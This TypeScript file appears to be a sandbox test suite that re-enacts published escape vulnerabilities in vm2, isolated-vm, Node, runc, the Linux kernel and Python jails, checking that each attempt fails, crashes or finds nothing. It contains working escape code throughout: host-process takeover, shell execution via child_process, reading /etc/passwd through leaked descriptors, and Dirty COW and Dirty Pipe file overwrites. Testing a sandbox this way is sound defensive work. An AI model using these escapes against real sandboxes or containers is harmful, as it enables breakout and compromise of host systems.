/**
 * Escapes that others have published, by their number or name: of vm contexts and isolates, of containers, of
 * the kernel.
 */
import {
  type AttackProgram,
  type ExpectedEnding,
  expectFoundOnly,
  javascript,
  expectKill,
  nothing,
  python,
  throws,
} from '../attack.ts'

const crash = expectKill('crash')

/** `way` finds a host’s `process`; what counts is which parts of the host it gives access to. */
const defineJavascriptEscape = (cve: string, way: string) =>
  javascript(
    cve,
    `RESULT = []; const loot = (host) => { if (host?.env?.CANARY) RESULT.push('environment'); for (const load of [host?.mainModule?.require, host?.getBuiltinModule, host?.constructor?._load]) { try { RESULT.push(load.call(host.mainModule ?? host, 'fs').readFileSync(canary.file, 'utf8')) } catch {} try { RESULT.push(String(load.call(host.mainModule ?? host, 'child_process').execFileSync('/bin/sh', ['-c', 'id'], { stdio: 'pipe' }))) } catch {} } }; const of = (thing) => { const realm = thing.constructor.constructor('return globalThis')(); if (realm !== globalThis) { RESULT.push('another realm'); loot(realm.process) } }; try { ${way} } catch {} await new Promise((go) => setTimeout(go, 20))`,
    [nothing, throws, crash],
    { wallMs: 3000 },
  )
const overflow =
  '(function stack(depth) { if (depth % 100 === 0) void new Error().stack; stack(depth + 1) })(1)'

/** `tries` is a Python dictionary of calls; what answers without an error is found. */
const definePythonEscape = (name: string, tries: string, behindGvisor?: ExpectedEnding) =>
  python(
    name,
    `import ctypes, os, socket, fcntl\nlibc = ctypes.CDLL(None, use_errno=True)\ndef works(call):\n    try:\n        found = call()\n        return not isinstance(found, int) or found >= 0\n    except (OSError, ValueError):\n        return False\nRESULT = [name for name, call in {${tries}}.items() if works(call)]`,
    [nothing, crash],
    undefined,
    behindGvisor,
  )

export const published: readonly AttackProgram[] = [
  defineJavascriptEscape(
    'CVE-2023-37466 (vm2): a promise’s species',
    `const made = async () => ${overflow}; const promise = made(); promise.constructor = { [Symbol.species]: class { constructor(executor) { executor((x) => x, of) } } }; promise.then()`,
  ),
  defineJavascriptEscape(
    'CVE-2022-36067 (vm2): Error replaced',
    `const Real = Error; globalThis.Error = { prepareStackTrace: (_, frames) => frames.forEach((frame) => { of(frame); of(frame.getThis() ?? frame) }) }; try { null.x } catch (error) { void error.stack } finally { globalThis.Error = Real }`,
  ),
  defineJavascriptEscape(
    'CVE-2023-30547 (vm2): a proxy that is thrown',
    `try { throw new Proxy({}, { getPrototypeOf() { ${overflow} } }) } catch ({ constructor }) { of({ constructor }) }`,
  ),
  defineJavascriptEscape(
    'CVE-2023-32314 (vm2): arguments of a proxy',
    `const error = new Error(); error.name = { toString: new Proxy(() => '', { apply(_, self, args) { of(args); throw 1 } }) }; void error.stack`,
  ),
  defineJavascriptEscape(
    'CVE-2023-29017 (vm2): errors of the host in the stack',
    `Error.prepareStackTrace = (error, frames) => { of(error); frames.forEach(of); return '' }; for (const work of [() => new URL('x'), () => JSON.parse('{'), () => ${overflow}]) try { work() } catch (error) { void error.stack; of(error) }`,
  ),
  defineJavascriptEscape(
    'CVE-2023-37903 (vm2): inspect',
    `const spy = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { of(inspect); of(options); return '' }, valueOf: undefined, constructor: undefined }; console.log(spy); console.log('%o', spy); await WebAssembly.compileStreaming?.(spy)?.catch(of)`,
  ),
  defineJavascriptEscape(
    'CVE-2026-22709 (vm2): catch of an async function',
    `const error = new Error(); error.name = Symbol(); Promise.prototype.then = new Proxy(Promise.prototype.then, { apply(target, self, args) { args.forEach((each) => each && of(each)); return Reflect.apply(target, self, args) } }); await (async () => error.stack)().catch(of)`,
  ),
  defineJavascriptEscape(
    'CVE-2021-23449 (vm2): import',
    `const found = import('./foo.js'); of(found); of(found.toString); await found.catch(of)`,
  ),
  defineJavascriptEscape(
    'CVE-2021-21413 (isolated-vm): references to the host',
    `const seen = new Set(); const look = (value, depth) => { if (depth > 5 || (typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) return; seen.add(value); for (const name of ['getSync', 'applySync', 'derefInto', 'copySync']) if (typeof value[name] === 'function') { RESULT.push(name); of(value) } for (const key of Reflect.ownKeys(value)) look(Object.getOwnPropertyDescriptor(value, key).value, depth + 1); look(Object.getPrototypeOf(value), depth + 1) }; look(globalThis, 0)`,
  ),
  defineJavascriptEscape(
    'CVE-2022-39266 (isolated-vm): code that was compiled elsewhere',
    `const { Script } = require('vm'); const { cachedData } = new Script('1', { produceCachedData: true }); for (let at = 16; at < cachedData.length; at += 7) { const bad = Buffer.from(cachedData); bad[at] ^= 255; new Script('1', { cachedData: bad }).runInThisContext() }`,
  ),
  defineJavascriptEscape(
    'CVE-2023-32002 (Node): modules past what is allowed',
    `loot(process.mainModule.constructor._load('process')); loot({ mainModule: process.mainModule.constructor.prototype, getBuiltinModule: require('module')._load })`,
  ),
  defineJavascriptEscape(
    'CVE-2023-30586 (Node): an engine of OpenSSL',
    `require('fs').writeFileSync('/tmp/engine.so', 'x'); require('crypto').setEngine('/tmp/engine.so'); RESULT.push('loaded')`,
  ),
  defineJavascriptEscape(
    'CVE-2019-5736 (runc): the runtime’s own file',
    `const fs = require('fs'); for (const path of ['/proc/self/exe', '/proc/1/exe', '/bin/node', process.execPath, '/runner/runner.js', '/etc/hosts']) for (const flags of ['r+', 'a']) try { fs.openSync(path, flags); RESULT.push(path) } catch {}`,
  ),
  defineJavascriptEscape(
    'CVE-2024-21626 (runc): descriptors that lead outside',
    `const fs = require('fs'); for (let fd = 0; fd < 64; fd++) for (const way of ['..', '../..', '../../../../..']) try { fs.readFileSync('/proc/self/fd/' + fd + '/' + way + '/etc/passwd'); RESULT.push(fd) } catch {}`,
  ),

  python(
    'CVE-2016-5195 (Linux): dirty COW',
    'import ctypes, mmap, os, threading, time\npath = os.__file__\nbefore = open(path, "rb").read()\nfile = os.open(path, os.O_RDONLY)\nprivate = mmap.mmap(file, 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)\nlibc = ctypes.CDLL(None)\nlibc.mmap.restype = ctypes.c_void_p\nplace = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, file, ctypes.c_long(0))\nuntil = time.monotonic() + 0.2\ndef drop():\n    while time.monotonic() < until:\n        libc.madvise(ctypes.c_void_p(place), 4096, 4)\nthread = threading.Thread(target=drop)\nthread.start()\ntry:\n    memory = os.open("/proc/self/mem", os.O_RDWR)\n    while time.monotonic() < until:\n        os.pwrite(memory, b"dirty", place)\nexcept OSError:\n    pass\nthread.join()\nRESULT = [] if open(path, "rb").read() == before else [path]',
    [nothing, crash],
  ),
  python(
    'CVE-2022-0847 (Linux): dirty pipe',
    'import ctypes, os\nlibc = ctypes.CDLL(None)\npath = os.__file__\nbefore = open(path, "rb").read()\nfile = os.open(path, os.O_RDONLY)\nout, into = os.pipe()\nos.write(into, b"x" * 65536)\nos.read(out, 65536)\nlibc.splice(file, ctypes.byref(ctypes.c_longlong(4)), into, None, ctypes.c_size_t(1), 0)\nos.write(into, b"dirty")\nRESULT = [] if open(path, "rb").read() == before else [path]',
    nothing,
  ),
  definePythonEscape(
    'holes that take namespaces or mounts',
    '"CVE-2022-0492, release_agent": lambda: libc.unshare(0x10000000 | 0x20000), "CVE-2022-0185, fsconfig": lambda: libc.syscall(430, b"cgroup2", 0), "CVE-2021-22555, netfilter": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW), "CVE-2024-1086, nf_tables": lambda: socket.socket(16, socket.SOCK_RAW, 12), "CVE-2017-7308, packets": lambda: socket.socket(17, socket.SOCK_RAW, 0), "CVE-2022-27666, IPsec": lambda: socket.socket(16, socket.SOCK_RAW, 6), "CVE-2023-0386, overlay": lambda: libc.mount(b"overlay", b"/tmp", b"overlay", 0, b"")',
    expectFoundOnly('CVE-2022-0492, release_agent', 'CVE-2022-0185, fsconfig'),
  ),
  definePythonEscape(
    'holes of rare system calls',
    '"CVE-2021-3490, bpf": lambda: libc.syscall(321, 5, 0, 0), "CVE-2016-0728, keys": lambda: libc.syscall(250, 1, 0), "CVE-2022-29582, io_uring": lambda: libc.syscall(425, 8, ctypes.create_string_buffer(256)), "CVE-2019-13272, ptrace": lambda: libc.ptrace(0, 0, 0, 0), "CVE-2019-11599, userfaultfd": lambda: libc.syscall(323, 1), "CVE-2015-1805, tee": lambda: libc.tee(0, 1, 1, 0), "CVE-2013-2094, perf": lambda: libc.syscall(298, ctypes.create_string_buffer(128), 0, -1, -1, 0), "CVE-2017-5226, TIOCSTI": lambda: fcntl.ioctl(0, 0x5412, b"x"), "CVE-2016-2384, SysV": lambda: libc.shmget(0, 4096, 0o1600), "inotify": lambda: libc.inotify_init1(0), "memfd": lambda: libc.memfd_create(b"x", 0)',
    expectFoundOnly(
      'CVE-2016-0728, keys',
      'CVE-2019-13272, ptrace',
      'CVE-2016-2384, SysV',
      'inotify',
      'memfd',
    ),
  ),
  python(
    'CVE-2023-37271 (RestrictedPython): frames of generators',
    'RESULT = []\ndef looks():\n    yield made.gi_frame.f_back\nmade = looks()\nframe = next(made)\nwhile frame is not None:\n    for values in (frame.f_globals, frame.f_locals):\n        for module in list(values.values()):\n            try:\n                RESULT.append(getattr(module, "os", module).environ["CANARY"])\n            except Exception:\n                pass\n            try:\n                RESULT.append(getattr(module, "open", open)(canary["file"]).read())\n            except Exception:\n                pass\n    frame = frame.f_back',
    [nothing, throws],
  ),
  python(
    'subclasses of object (jails of Python)',
    'RESULT = []\nfor each in ().__class__.__base__.__subclasses__():\n    found = getattr(each.__init__, "__globals__", {})\n    for name in ("sys", "os", "modules", "__builtins__"):\n        try:\n            module = found[name]\n            module = getattr(module, "modules", {}).get("os", module)\n            RESULT += [module.environ["CANARY"]]\n        except Exception:\n            pass\n        try:\n            RESULT.append(found["__builtins__"]["open"](canary["file"]).read())\n        except Exception:\n            pass',
    [nothing, throws],
  ),
]
